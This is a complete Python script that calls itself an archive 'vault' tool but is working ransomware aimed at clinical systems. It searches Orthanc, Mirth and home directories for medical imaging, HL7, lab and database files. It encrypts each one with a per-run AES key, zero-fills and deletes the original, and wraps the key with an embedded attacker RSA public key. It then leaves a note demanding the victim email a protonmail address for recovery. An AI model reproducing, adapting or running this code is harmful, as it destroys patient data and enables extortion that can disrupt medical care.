#!/usr/bin/env python3
"""Vault the imaging and lab archives of this node.

Walks the given roots, seals every clinical data file with AES-GCM under a
per-run key, replaces the originals and leaves recovery instructions. The
per-run key is only kept wrapped with the operator's RSA public key.
"""
import argparse
import base64
import logging
import os
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")
TARGET_EXT = {".dcm", ".hl7", ".csv", ".xlsx", ".pdf", ".sqlite", ".db", ".nii", ".json"}
SKIP_DIRS = {"proc", "sys", "dev", ".git"}
SUFFIX = ".vaulted"
NOTE_NAME = "RECOVER_YOUR_ARCHIVE.txt"
OPERATOR_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""
NOTE = """Your imaging and laboratory archive on this node has been sealed.
Every study, report and result file now ends in {suffix}. To obtain the
recovery key send the token below to recovery-desk@protonmail.com.

TOKEN:
{token}
"""


def wrap_key(key: bytes) -> str:
    pub = serialization.load_pem_public_key(OPERATOR_PUB)
    wrapped = pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                            algorithm=hashes.SHA256(), label=None))
    return base64.b64encode(wrapped).decode()


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in TARGET_EXT and not name.endswith(SUFFIX):
                yield path


def seal(path: Path, aead: AESGCM) -> bool:
    try:
        data = path.read_bytes()
        nonce = os.urandom(12)
        path.with_name(path.name + SUFFIX).write_bytes(nonce + aead.encrypt(nonce, data, None))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=["/srv/orthanc", "/var/lib/mirth", str(Path.home())])
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    token = wrap_key(key)
    del key

    for root in map(Path, args.roots):
        if not root.exists():
            continue
        sealed = sum(seal(p, aead) for p in candidates(root))
        (root / NOTE_NAME).write_text(NOTE.format(suffix=SUFFIX, token=token))
        log.info("%s: %d files", root, sealed)


if __name__ == "__main__":
    main()
